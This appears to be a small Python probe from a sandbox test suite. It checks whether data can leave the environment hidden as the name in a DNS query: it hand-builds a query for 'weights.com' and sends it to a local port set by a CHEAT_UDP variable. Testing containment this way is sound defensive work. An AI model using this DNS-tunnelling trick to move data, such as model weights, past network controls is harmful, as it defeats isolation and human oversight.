"""Send the data away as the name in a question to a name server."""

import os
import socket

try:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(1)
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\7weights\3com\0\0\1\0\1"
    out.sendto(question, ("127.0.0.1", int(os.environ["CHEAT_UDP"])))
    out.recv(512)
    print("network through")
except OSError as error:
    print("network", error)
